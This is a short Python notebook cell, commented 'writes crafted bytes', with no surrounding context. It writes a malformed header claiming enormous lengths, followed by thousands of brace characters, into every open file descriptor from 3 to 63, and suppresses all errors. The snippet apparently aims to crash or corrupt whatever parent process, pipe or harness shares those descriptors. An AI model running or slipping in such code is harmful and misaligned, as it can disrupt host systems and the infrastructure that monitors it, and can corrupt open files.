# writes crafted bytes
# %%
import os, struct
for fd in range(3, 64):
    try: os.write(fd, struct.pack('<II', 2**31, 2**31) + b'{' * 10000)
    except OSError: pass
